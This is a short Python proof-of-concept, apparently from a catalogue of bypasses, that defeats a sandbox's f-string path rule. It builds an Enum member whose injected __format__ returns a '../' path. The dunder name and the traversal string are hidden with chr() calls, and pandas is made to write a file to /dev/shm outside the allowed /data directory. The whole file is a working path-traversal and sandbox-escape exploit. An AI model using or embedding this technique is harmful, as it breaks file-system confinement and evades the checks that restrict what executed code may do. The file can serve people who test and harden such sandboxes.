# source: f-string path rule "format an integer" vs. Python format protocol (__format__); enum functional API stores dunder names as class attributes
# family: path hole filled by an object whose __format__ returns "../..." (Enum member with injected __format__), reached through a function parameter
# goal: write /dev/shm/pwned9.csv via /data/../dev/shm/pwned9.csv (needs /data to exist, as in sandexec; proof run with --tmpfs /data)
import pandas as pd
import enum
FMT = chr(95) * 2 + "format" + chr(95) * 2
W = chr(46) * 2 + chr(47) + "dev" + chr(47) + "shm" + chr(47) + "pwned9"
E = enum.Enum("E", [(FMT, lambda self, spec: self.value), ("b", W)])
df = pd.DataFrame({"a": [1, 2]})


def w(i):
    df.to_csv(f"/data/{i:03d}.csv")
    print(pd.read_csv(f"/data/{i:03d}.csv"))


w(E.b)
